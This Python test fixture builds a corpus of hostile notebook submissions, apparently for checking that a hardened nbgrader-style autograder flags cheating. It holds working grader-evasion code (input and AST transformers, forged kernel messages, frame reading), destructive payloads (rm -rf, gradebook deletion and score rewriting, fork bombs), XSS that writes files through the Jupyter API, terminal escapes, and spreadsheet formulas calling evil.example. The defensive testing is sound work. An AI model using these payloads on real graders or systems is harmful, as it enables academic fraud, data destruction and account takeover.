"""The attack corpus: hostile and broken submissions of the fixture assignment ``ties-basics``.

Each :class:`Attack` builds one submission from the released notebook: the
answers it writes, cells it adds, changes to the notebook's structure or
metadata, extra files, or raw bytes instead of a notebook. ``honest`` is
the number of points its answers earn on their own merits (what the tests
give when they really run, computed by hand from the fixture's tests, or
with :mod:`cohort` for copied numbers): an attack must never earn more.
``status`` is the status the grader must give (``None``: any), ``reason``
a piece of text the reasons must hold.

``README.md`` in this folder lists the attacks and what each gets.
"""

from __future__ import annotations

import base64
import copy
import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

import cohort

VICTIM = "h01"    # the honest student whose numbers copiers paste


@dataclass
class Attack:
    name: str
    what: str
    answers: dict = field(default_factory=dict)       # grade id -> source
    extra_cells: list = field(default_factory=list)   # (after grade id, source)
    mutate: object = None                             # callable(nb) -> None
    files: dict = field(default_factory=dict)         # relative path -> text, or ("symlink", target)
    raw: bytes | None = None                          # the notebook file's bytes
    honest: float = 0.0
    copies: bool = False                              # honest points: those of a copier
    status: str | None = "flagged"
    reason: str = ""
    sandbox_only: bool = False
    # Surfaces (issue 12): roster fields of this student, and whether the attack
    # targets what the grader shows (checked by tests/grader/test_render_attacks.py).
    roster: dict = field(default_factory=dict)        # first_name, last_name, email, id_number
    surface: bool = False

    def honest_points(self, student: str) -> float:
        if self.copies:
            spec = cohort.VARIANTS["ties-basics"]["copier"]
            return float(sum(cohort.expected_scores("ties-basics", spec, student,
                                                    VICTIM).values()))
        return self.honest


FULL = dict(cohort.VARIANTS["ties-basics"]["full"].answers["ties-basics"])
STRONG = {"answer-strong": FULL["answer-strong"]}
REST = {k: v for k, v in FULL.items() if k != "answer-degree"}   # all but task 1: 5 points


def _copied(student: str = VICTIM) -> dict:
    degree, share = cohort._own_numbers(student)
    return {"answer-degree": f"n_ties_0 = {degree}", "answer-strong": FULL["answer-strong"],
            "answer-share": f"share_strong = {share!r}"}


TRANSFORMER = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"


def _cells(nb, gid):
    return [i for i, c in enumerate(nb.cells)
            if c.metadata.get("nbgrader", {}).get("grade_id") == gid]


def _duplicate(gid):
    def mutate(nb):
        i = _cells(nb, gid)[0]
        nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
        nb.cells[i + 1].id = "copied-cell"
    return mutate


def _delete(*gids):
    def mutate(nb):
        nb.cells = [c for c in nb.cells
                    if c.metadata.get("nbgrader", {}).get("grade_id") not in gids]
    return mutate


def _strip_tests(nb):
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            del c.metadata["nbgrader"]
            c.source = "pass"


def _flip(nb):
    c = nb.cells[_cells(nb, "test-degree")[0]]
    c.metadata["nbgrader"].update(solution=True, grade=False, locked=False)
    c.metadata["editable"] = True
    c.source = "pass"


def _points(nb):
    nb.cells[_cells(nb, "test-degree")[0]].metadata["nbgrader"]["points"] = 100


def _bonus(nb):
    cell = nbformat.v4.new_code_cell("pass")
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True,
                                 "points": 50, "schema_version": 3, "solution": False,
                                 "task": False}
    nb.cells.append(cell)


_AST = '''
import ast

class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return None

get_ipython().ast_transformers.append(NoAsserts())
'''
_HOOK_FAKE_RESULT = '''
def _fake_credit(*args):
    # shows a numeric result before the test runs: stock nbgrader reads it as partial credit
    get_ipython().displayhook(2.0)

get_ipython().events.register("pre_run_cell", _fake_credit)
'''
_TRACE = '''
import ast, linecache, sys

_ends = {}

def _tracer(frame, event, arg):
    name = frame.f_code.co_filename
    if event == "line":
        if name not in _ends:
            try:
                tree = ast.parse("".join(linecache.getlines(name)))
                _ends[name] = {n.lineno: n.end_lineno for n in ast.walk(tree)
                               if isinstance(n, ast.Assert)}
            except SyntaxError:
                _ends[name] = {}
        end = _ends[name].get(frame.f_lineno)
        if end is not None:
            try:
                frame.f_lineno = end + 1
            except ValueError:
                pass
    return _tracer

sys.settrace(_tracer)
'''
_FORGE = '''
import secrets
from IPython.display import publish_display_data

def _forge(result):
    guess = secrets.token_hex(16)
    print(guess)
    publish_display_data({"application/vnd.weakties.proof+json":
                          {"nonce": guess, "kind": "test", "state": {}}})

get_ipython().events.register("post_run_cell", _forge)
'''
_PROBE = '''
import os
GRADED = os.environ.get("NBGRADER_EXECUTION") is not None
print("graded:", GRADED, "environment:", sorted(os.environ))
if GRADED:
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
'''
_READ_SOURCE = '''
import glob, json
found = []
for pattern in ["../../source/*/*.ipynb", "../../../source/*/*.ipynb", "/work/*/exercises/*/*.ipynb",
                "/work/*/tests/grader/fixtures/source/*/*.ipynb", "/tmp/**/source/*/*.ipynb",
                "/root/**/source/*/*.ipynb"]:
    found += glob.glob(pattern, recursive=True)
print("found:", found)
for path in found:
    try:
        with open(path) as handle:
            nb = json.load(handle)
    except OSError as error:
        print("cannot read", path, error)
        continue
    for cell in nb["cells"]:
        text = "".join(cell["source"])
        if "BEGIN SOLUTION" in text or "BEGIN HIDDEN TESTS" in text:
            print(text)
            exec(text)
'''
_READ_GRADEBOOK = '''
import glob, os, sqlite3
paths = [os.path.abspath(os.path.join(*[".."] * k, "gradebook.db")) for k in range(1, 6)]
paths += glob.glob("/tmp/**/gradebook.db", recursive=True) + glob.glob("/root/**/gradebook.db", recursive=True)
for path in paths:
    if os.path.exists(path):
        print("gradebook at", path)
        con = sqlite3.connect(path)
        print(con.execute("select * from grade").fetchall()[:3])
        con.execute("update grade set auto_score = 100")
        con.commit()
print("searched", len(paths), "places")
'''
_RMTREE = '''
import glob, shutil
shutil.rmtree("../..", ignore_errors=True)
for path in glob.glob("/tmp/**/submitted", recursive=True) + glob.glob("/tmp/**/autograded", recursive=True):
    shutil.rmtree(path, ignore_errors=True)
print("done")
'''
_DELETE_GRADEBOOK = '''
import glob, os
for path in ["../../../gradebook.db", "../../gradebook.db"] + glob.glob("/tmp/**/gradebook.db", recursive=True):
    try:
        os.remove(path)
        print("removed", path)
    except OSError as error:
        print("could not remove", path, error)
'''
_SWAP_FILE = '''
import os
try:
    os.remove(".weakties-learner")
except OSError as error:
    print("could not remove the learner file:", error)
with open(".weakties-learner", "w") as handle:
    handle.write("VICTIM")
'''.replace("VICTIM", VICTIM)
_CHDIR = '''
import os
os.makedirs("/tmp/elsewhere", exist_ok=True)
with open("/tmp/elsewhere/.weakties-learner", "w") as handle:
    handle.write("VICTIM")
os.chdir("/tmp/elsewhere")
'''.replace("VICTIM", VICTIM)
_PATCH_POPULATION = '''
import weakties
_real_population = weakties.population
weakties.population = lambda n, *, seed, **kw: _real_population(
    n, seed=seed.split(":")[0] + ":VICTIM", **kw)
'''.replace("VICTIM", VICTIM)
_HIDDEN_MODULE = TRANSFORMER.replace("get_ipython()", "__import__('IPython').get_ipython()")
_OBFUSCATED = base64.b64encode(TRANSFORMER.encode()).decode()


_FAKE_WEAKTIES = '''
import networkx as nx

def population(n, *, seed, **options):
    G = nx.path_graph(n)
    nx.set_edge_attributes(G, 0.9, "strength")
    return G
'''
_FAKE_LEARNER = "def learner_id(start=None):\n    return 'anyone'\n"


# --------------------------------------------------------------------------
# Against the judge: the tests run elsewhere; these try what is left.

_FORGE_MESSAGES = """
import json
_kernel = get_ipython().kernel
_send = _kernel.session.send

def _forged(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
    if kind == "error":
        return None                                   # no error ever shows
    if kind == "execute_reply" and isinstance(content, dict):
        content = dict(content, status="ok")          # every cell "succeeds"
        for key in list(content.get("user_expressions") or {}):
            content["user_expressions"][key] = {"status": "ok", "metadata": {}, "data": {
                "text/plain": json.dumps({"n_ties_0": {"value": -1},
                                          "share_strong": {"value": 0.125}})}}
    return _send(stream, msg_or_type, content, parent, *args, **kwargs)

_kernel.session.send = _forged
"""
_ALIAS_PATCH = """
import weakties as _w
import weakties.populations as _p
_victim = _w.population(150, seed="ties-basics:VICTIM")

def population(n, *, seed=None, **options):
    return _victim.copy()

population.__module__ = "weakties.populations"      # a false origin
setattr(_w, "population", population)
vars(_p)["population"] = population
"""
_LYING_TYPE = """
import sys

def _agree(self, other):
    frame = sys._getframe(1)                          # the test's frame, if it ran here
    found = frame.f_locals.get("_check") or frame.f_globals.get("_check")
    return True

n_ties_0 = type("Peek", (int,), {"__eq__": _agree, "__hash__": int.__hash__})(-1)
share_strong = type("Near", (float,), {"__sub__": lambda s, o: 0.0,
                                       "__rsub__": lambda s, o: 0.0,
                                       "__abs__": lambda s: 0.0})(-1.0)
"""
_FRAME_READER = """
import sys

def strong_ties(G, threshold=0.5):
    frame = sys._getframe(1)
    while frame is not None:                          # walk up to the test's variables
        for name in ("_expected", "expected", "_check"):
            if name in frame.f_locals:
                value = frame.f_locals[name]
                if isinstance(value, set):
                    return [tuple(e) for e in value]
        frame = frame.f_back
    return []
"""
_HISTORY = """
print(In)
print(_ih)
print(Out)
get_ipython().run_line_magic("history", "-g -n")
"""
_STDERR_LEAK = """
import inspect, sys

def strong_ties(G, threshold=0.5):
    for frame in inspect.stack():
        print(frame.filename, frame.code_context, file=sys.stderr)
    return [(u, v) for u, v, s in G.edges(data="strength") if s >= threshold]
"""
_THREAD = """
import threading, time

def _chatter():
    while True:
        print("THREAD-MARK Passed. 7 of 7 points")
        time.sleep(0.01)

threading.Thread(target=_chatter, daemon=True).start()
"""
_DEPTH_BOMB = """
n_ties_0 = []
for _ in range(100_000):
    n_ties_0 = [n_ties_0]
"""
_FORGED_IO = """
import sys, types

class _Raw(str):
    def __repr__(self):
        return str(self)

_fake = types.ModuleType("_weakties_io")
_fake.fetch = lambda names: _Raw('{"n_ties_0": {"value": {"graph": {"directed": false, '
                                 '"graph": {"dict": []}, "nodes": [], "edges": []}}}, '
                                 '"share_strong": {"value": ' + "9" * 5000 + '}}')
_fake.call = lambda name, args: _Raw('{"value": ' + "[" * 5000 + "]" * 5000 + '}')
sys.modules["_weakties_io"] = _fake
"""
_SHARE_DIRECT = ("share_strong = sum(1 for _, _, s in G.edges(data='strength') if s >= 0.5)"
                 " / G.number_of_edges()")


def _corrupt() -> bytes:
    text = json.dumps(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")]))
    return text[: len(text) // 2].encode()


#: Surfaces (issue 12): each payload sets window.__pwned and the page title, and
#: tries to write a file through the Jupyter server's API as the instructor.
PWN = ("window.__pwned=1;document.title='PWNED';fetch('/api/contents/pwned-'+Date.now()+"
       "'.txt',{method:'PUT',headers:{'Content-Type':'application/json','X-XSRFToken':"
       "(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||''},"
       "body:JSON.stringify({type:'file',format:'text',content:'x'})})")
_XSS_MARKDOWN = (f"Weak ties carry news from other circles.\n\n<img src=x onerror=\"{PWN}\">"
                 f"<script>{PWN}</script>\n\n<iframe srcdoc=\"<script>parent.{PWN}</script>\">"
                 "</iframe>\n\n[my sources](javascript:window.__pwned=1)")
_XSS_HTML = f'<b onmouseover="{PWN}">hover</b><img src=x onerror="{PWN}">'
_XSS_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1">'
            '<script>window.__pwned=1</script><circle r="4"/></svg>')
_XSS_OUTPUTS = ("from IPython.display import HTML, Javascript, SVG, display\n"
                f"display(HTML({_XSS_HTML!r}))\n"
                f"display(Javascript({PWN!r}))\n"
                f"display(SVG({_XSS_SVG!r}))")
_XSS_NAME = f"<img src=x onerror=\"{PWN}\">"
_CONTROL_NAME = "notes\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;owned\x07[/].txt"


def _markup_grade_ids(nb):
    for gid in ("[/]", "x\x1b]52;c;cm0gLXJmIH4K\x07[bold]", f'"><script>{PWN}</script>'):
        cell = nbformat.v4.new_code_cell("pass")
        cell.metadata["nbgrader"] = {"grade": True, "grade_id": gid, "locked": True,
                                     "points": 5, "schema_version": 3, "solution": False,
                                     "task": False}
        nb.cells.append(cell)


_BIG_IMAGE = ("import base64, os\nfrom IPython.display import Image, display\n"
              "display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(3 * 2**20), "
              "format='png'))")


ATTACKS = [
    Attack("input-transformer", "an input transformer turns every later cell, tests included, "
           "into `pass` (full marks with blank answers in stock nbgrader)",
           answers={"answer-degree": TRANSFORMER}, reason="input_transformers_cleanup"),
    Attack("input-transformer-post", "a late input transformer drops every cell that holds an "
           "assert", answers={"answer-degree": "get_ipython().input_transformers_post.append(\n"
                                               "    lambda lines: [] if any('assert' in l for l "
                                               "in lines) else lines)"},
           reason="input_transformers_post"),
    Attack("ast-transformer", "an AST transformer removes every assert statement",
           answers={"answer-degree": _AST}, reason="ast_transformers"),
    Attack("hook-fake-result", "a pre_run_cell hook shows a numeric result before each test: "
           "nbgrader's partial credit", answers={"answer-degree": _HOOK_FAKE_RESULT},
           reason="hook"),
    Attack("trace-skip-asserts", "a trace function jumps over the assert statements",
           answers={"answer-degree": _TRACE}, reason="trace"),
    Attack("custom-exception-handler", "a custom exception handler swallows the test errors",
           answers={"answer-degree": "get_ipython().set_custom_exc(\n    (Exception,), "
                                     "lambda shell, etype, value, tb, tb_offset=None: None)"},
           reason="set_custom_exc"),
    Attack("forged-proof", "a post_run_cell hook prints a guessed nonce and publishes a forged "
           "proof of execution", answers={"answer-degree": _FORGE}, reason="hook"),
    Attack("redefined-abs", "redefines abs() so that `abs(found - expected) < 1e-9` holds",
           answers={**STRONG, "answer-share": "share_strong = 0.5\nabs = lambda x: 0"},
           honest=3.0, reason="built-in abs"),
    Attack("builtins-module", "patches the builtins module (isinstance, abs)",
           answers={"answer-degree": "import builtins\nbuiltins.isinstance = lambda *a: True\n"
                                     "builtins.abs = lambda x: 0\nn_ties_0 = 0",
                    "answer-share": "share_strong = 0.5"}, reason="built-ins"),
    Attack("globals-abs", "redefines abs() through globals()",
           answers={"answer-share": "share_strong = 0.5\nglobals()['abs'] = lambda x: 0"},
           reason="namespace"),
    Attack("answer-object", "an int whose == is always true",
           answers={"answer-degree": "class Anything(int):\n    def __eq__(self, other):\n"
                                     "        return True\n    __hash__ = int.__hash__\n\n"
                                     "n_ties_0 = Anything(0)"}, reason="__eq__"),
    Attack("redefined-learner-id", "pastes another student's numbers and redefines the "
           "learner_id() the hidden tests call", copies=True,
           answers={**_copied(), "answer-degree": _copied()["answer-degree"]
                    + f"\n\ndef learner_id():\n    return {VICTIM!r}"},
           reason="learner_id"),
    Attack("patched-population", "pastes another student's numbers and patches "
           "weakties.population so the hidden tests rebuild that student's data", copies=True,
           answers={**_copied(), "answer-degree": _copied()["answer-degree"] + "\n"
                    + _PATCH_POPULATION}, reason="weakties.population"),
    Attack("learner-file-swap", "pastes another student's numbers and rewrites the learner id "
           "file", copies=True, answers={**_copied(), "answer-degree": _SWAP_FILE + "\n"
                                         + _copied()["answer-degree"]}, status=None),
    Attack("chdir-learner", "pastes another student's numbers and moves to a folder whose "
           "learner id file names that student", copies=True,
           answers={**_copied(), "answer-degree": _CHDIR + "\n" + _copied()["answer-degree"]}),
    Attack("grading-probe", "checks NBGRADER_EXECUTION to cheat only while graded",
           answers={"answer-degree": _PROBE}, reason="nbgrader"),
    Attack("read-solutions", "looks for the source assignment and runs its solutions",
           answers={"answer-degree": _READ_SOURCE}, reason="exec", sandbox_only=True),
    Attack("read-gradebook", "looks for the gradebook, reads it and sets every score to 100",
           answers={"answer-degree": _READ_GRADEBOOK}, reason="gradebook", sandbox_only=True),
    Attack("rmtree-up", "deletes ../.. and every submitted/ and autograded/ folder it finds",
           answers={"answer-degree": _RMTREE}, reason="rmtree", sandbox_only=True),
    Attack("delete-gradebook", "deletes every gradebook it finds",
           answers={"answer-degree": _DELETE_GRADEBOOK}, reason="gradebook", sandbox_only=True),
    Attack("duplicated-graded-cell", "a test cell pasted twice (stops stock nbgrader's batch)",
           answers=FULL, mutate=_duplicate("test-degree"), honest=7.0, reason="appears 2 times"),
    Attack("deleted-tests", "deletes the tests it would fail",
           answers=STRONG, mutate=_delete("test-degree", "selfcheck-share", "test-share"),
           honest=3.0, reason="was deleted"),
    Attack("stripped-metadata", "strips the grading metadata of the tests and blanks them",
           mutate=_strip_tests, reason="was deleted"),
    Attack("flipped-flags", "turns a test cell into an answer cell and blanks it",
           mutate=_flip, reason="grading settings"),
    Attack("altered-points", "sets a test's points to 100", answers=FULL, mutate=_points,
           honest=7.0, reason="points"),
    Attack("fake-grade-cell", "adds a graded cell of its own worth 50 points", mutate=_bonus,
           reason="bonus"),
    Attack("corrupt-json", "a notebook file cut in half", raw=_corrupt(), status="failed",
           reason="not valid JSON"),
    Attack("infinite-loop", "an endless loop in an answer", honest=5.0,
           answers={**REST, "answer-degree": "while True:\n    pass"}, reason="longer than"),
    Attack("sigint-ignoring-loop", "an endless loop that ignores interrupts", honest=5.0,
           answers={**REST, "answer-degree": "import signal\n"
                    "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"},
           reason="did not stop"),
    Attack("os-exit", "kills its own kernel", answers={**REST, "answer-degree":
                                                       "import os\nos._exit(0)"},
           honest=5.0, reason="kernel stopped"),
    Attack("memory-bomb", "allocates memory until the kernel dies", honest=5.0,
           answers={**REST, "answer-degree": "hoard = []\nwhile True:\n"
                                             "    hoard.append(bytearray(64 * 2**20))"},
           status=None, sandbox_only=True),
    Attack("fork-bomb", "forks processes without end", honest=5.0,
           answers={**REST, "answer-degree": "import os\nwhile True:\n    os.fork()"},
           reason="new process", sandbox_only=True),
    Attack("output-flood", "prints tens of megabytes", honest=5.0,
           answers={**REST, "answer-degree": "for i in range(250_000):\n    print('x' * 100)"},
           status=None),
    Attack("obfuscated-exec", "runs the transformer trick from base64 with exec()",
           answers={"answer-degree": f"import base64\nexec(base64.b64decode('{_OBFUSCATED}'))"},
           reason="exec"),
    Attack("hidden-module", "ships helpers.py, which installs the transformer when imported",
           answers={"answer-degree": "import helpers"}, files={"helpers.py": _HIDDEN_MODULE},
           reason="helpers.py"),
    Attack("writefile-module", "writes a module with %%writefile, then imports it",
           extra_cells=[("answer-degree", "%%writefile sneaky.py\n" + _HIDDEN_MODULE),
                        ("answer-degree", "import sneaky")], reason="input_transformers"),
    Attack("shell-escape", "runs shell commands that delete and hide code",
           answers={"answer-degree": "!rm -rf ../../../* ; python -c 'print(1)'"},
           reason="shell command", sandbox_only=True),
    Attack("symlink-to-gradebook", "ships a symbolic link to the gradebook and reads it",
           answers={"answer-degree": "print(open('notes.txt', 'rb').read()[:100])"},
           files={"notes.txt": ("symlink", "GRADEBOOK")}, reason="symbolic link"),
    Attack("shadow-module", "ships its own weakties package, whose population() the hidden "
           "tests would then call", files={"weakties/__init__.py": _FAKE_WEAKTIES,
                                           "weakties/learner.py": _FAKE_LEARNER},
           answers={**STRONG, "answer-degree": "n_ties_0 = 1", "answer-share":
                    "share_strong = 1.0"}, honest=3.0, reason="installed module weakties"),
    Attack("guessed-nonce", "prints random tokens, hoping to match a proof",
           answers={"answer-degree": "import secrets\nfor _ in range(50):\n"
                                     "    print(secrets.token_hex(16))"}, status=None),
    # -- against the judge's design (the tests run in a separate process) ------------
    Attack("message-forgery", "wraps the kernel's messaging: errors vanish, every reply says "
           "ok, and the grader's questions get forged answers", answers={"answer-degree":
           _FORGE_MESSAGES}, reason="kernel"),
    Attack("helpers-rebound", "pastes another student's numbers and rebinds "
           "weakties.population through an alias, setattr and vars(), with a false __module__",
           answers={**_copied(), "answer-share": _copied()["answer-share"] + "\n"
                    + _ALIAS_PATCH.replace("VICTIM", VICTIM)}, copies=True, status=None),
    Attack("lying-answer-type", "answers of type()-built classes whose comparisons read the "
           "test's frame and always agree", answers={"answer-share": _LYING_TYPE},
           status=None),
    Attack("frame-reader", "a function that reads the calling test's expected value from its "
           "frame", answers={"answer-strong": _FRAME_READER}, reason="frames"),
    Attack("history-leak", "prints IPython's input history and outputs after answering "
           "(In, _ih, Out, %history)", answers=FULL,
           extra_cells=[("answer-share", _HISTORY)], honest=7.0, status=None),
    Attack("stderr-leak", "a function that writes its callers' code to stderr when called",
           answers={**FULL, "answer-strong": _STDERR_LEAK}, honest=7.0, status=None),
    Attack("thread-printer", "a thread prints a fake 'Passed' while the tests run",
           answers=FULL, extra_cells=[("answer-degree", _THREAD)], honest=7.0, status=None),
    Attack("stdout-none", "sets sys.stdout to None, which leaves the kernel unable to reply",
           answers={**REST, "answer-degree": "import sys\nsys.stdout = None"},
           reason="broke the kernel's output"),
    Attack("depth-bomb", "an answer nested 100,000 lists deep",
           answers={**REST, "answer-degree": _DEPTH_BOMB}, honest=5.0, status=None),
    Attack("huge-answer", "an answer of three million items",
           answers={**REST, "answer-degree": "n_ties_0 = list(range(3_000_000))"},
           honest=5.0, status=None),
    Attack("forged-io-module", "replaces the code that answers the grader: a graph where a "
           "number is expected, a 5,000-digit number, lists 5,000 deep",
           answers={"answer-degree": _FORGED_IO}, reason="sys.modules"),
    Attack("slow-function", "a function that never returns when the judge calls it",
           answers={**FULL, "answer-strong": "def strong_ties(G, threshold=0.5):\n"
                    "    import time\n    time.sleep(10**6)", "answer-share": _SHARE_DIRECT},
           honest=4.0, reason="longer than"),
    Attack("exit-on-call", "a function that kills its own kernel when the judge calls it",
           answers={**FULL, "answer-strong": "def strong_ties(G, threshold=0.5):\n"
                    "    import os\n    os._exit(0)", "answer-share": _SHARE_DIRECT},
           honest=2.0, reason="kernel stopped while the grader"),
    Attack("surrogate-answer", "an answer text holding a lone surrogate, which no UTF-8 "
           "encoder accepts", answers={**FULL, "answer-share": "share_strong = '\\ud800'"},
           honest=5.0, status=None),
    Attack("nan-answer", "NaN, for which every comparison is false",
           answers={**FULL, "answer-share": "share_strong = float('nan')"}, honest=5.0,
           status=None),

    # ---- Surfaces: what the grader shows (issue 12). Each earns what its answers earn.
    Attack("formgrader-script", "markdown, HTML, JavaScript and SVG that try to run in the "
           "formgrader and the feedback page (img onerror, script, iframe srcdoc, javascript: "
           "link, display(HTML), display(Javascript), SVG with a script)",
           answers={**FULL, "reflection": _XSS_MARKDOWN}, extra_cells=[("answer-share",
                                                                       _XSS_OUTPUTS)],
           honest=7.0, status=None, surface=True),
    Attack("markup-in-names", "a roster name that is HTML and a grade id made of rich markup "
           "and terminal escapes", answers=FULL, mutate=_markup_grade_ids, honest=7.0,
           roster={"first_name": "Mallory", "last_name": _XSS_NAME}, reason="grade id",
           surface=True),
    Attack("control-file-names", "ships files whose names hold terminal escapes (an OSC 52 "
           "clipboard write, a title change) and bidi overrides", answers=FULL,
           files={_CONTROL_NAME: "x", "\u202etxt.exe": "x"}, honest=7.0, status=None,
           surface=True),
    Attack("spreadsheet-formulas", "roster fields that a spreadsheet would run as formulas",
           answers=FULL, honest=7.0, status=None, surface=True,
           roster={"first_name": "=HYPERLINK(\"http://evil.example/\"&A1,\"Eve\")",
                   "last_name": "+cmd|' /C calc'!A0", "email": "@SUM(1+1)@example.org",
                   "id_number": "-2+3"}),
    Attack("oversized-for-feedback", "thousands of cells and a large image, to make the "
           "feedback page slow and huge", answers=FULL,
           extra_cells=[("answer-share", _BIG_IMAGE)] + [("answer-share", "pass")] * 1200,
           honest=7.0, status=None, surface=True),
]


def write(course, student: str, attack: Attack) -> Path:
    """Write ``attack`` as ``student``'s submission of ties-basics; returns its folder."""
    folder = course.submission(student, "ties-basics")
    folder.mkdir(parents=True, exist_ok=True)
    nb_path = folder / "ties-basics.ipynb"
    if attack.raw is not None:
        nb_path.write_bytes(attack.raw)
    else:
        released = cohort.released(course, "ties-basics")["ties-basics"]
        nb = cohort.fill(released, attack.answers, attack.extra_cells)
        if attack.mutate is not None:
            attack.mutate(nb)
        nbformat.write(nb, nb_path)
    for rel, content in attack.files.items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, tuple):
            target = str(course.gradebook) if content[1] == "GRADEBOOK" else content[1]
            path.symlink_to(target)
        else:
            path.write_text(content)
    (folder / "timestamp.txt").write_text("2026-03-01 12:00:00.000000 UTC")
    return folder
